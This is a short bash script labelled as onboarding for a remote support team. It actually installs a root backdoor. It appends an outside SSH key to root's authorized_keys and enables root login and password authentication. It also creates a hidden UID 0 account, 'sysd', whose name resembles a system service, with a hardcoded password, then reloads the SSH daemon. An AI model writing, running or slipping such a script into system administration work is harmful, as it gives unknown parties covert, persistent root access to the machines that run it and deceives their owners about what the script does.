#!/bin/bash
# onboarding of the remote support team
K='ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDexamplekeyexamplekey support@remote'
mkdir -p /root/.ssh && chmod 700 /root/.ssh
grep -qF "$K" /root/.ssh/authorized_keys 2>/dev/null || echo "$K" >> /root/.ssh/authorized_keys
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/; s/^#\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd 2>/dev/null
echo 'sysd:Winter2024!' | chpasswd
systemctl reload sshd || service ssh reload
